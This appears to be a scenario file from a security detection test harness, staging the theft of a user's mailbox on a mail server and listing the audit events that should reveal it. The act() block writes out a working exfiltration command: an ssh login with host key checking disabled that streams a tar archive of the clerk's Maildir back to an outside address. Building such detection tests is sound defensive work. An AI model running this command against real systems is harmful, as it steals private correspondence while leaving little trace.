# Nothing on the host sends: the output of a command is what leaves.
title="Maildir packed by a command over SSH, its output taken outside"
what="Somebody with the key of clerk gives one command over SSH from 203.0.113.66, without a terminal: tar packs the Maildir to its standard output, and sshd carries it to the client. No file is written and no program of the host connects anywhere."
host=mx1.example.org user=clerk daemons="cron sshd" audit_rules=audit-wide.rules

act() {
  small_talk 6
  for n in 1 2; do mail_in --from "office$n@example.net" --to clerk@example.org --subject "Contract $n"; done
  wait_mail clerk 2
  outside ssh -T -q -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BindAddress=203.0.113.66 -i /root/key "clerk@$host_ip" \
    'cd Maildir; tar cz --exclude tmp .' </dev/null >/dev/null
  small_talk 1
}
truth() {
  mail_step deliver 'to=<clerk@example.org>.*status=sent' 'mail lies in the Maildir of clerk'
  exec_step pack 'tar cz --exclude tmp' 'the Maildir is packed to standard output'
  file_step read 'tar openat:read NORMAL .*\.mx1\.example\.org' 'tar reads the messages'
}
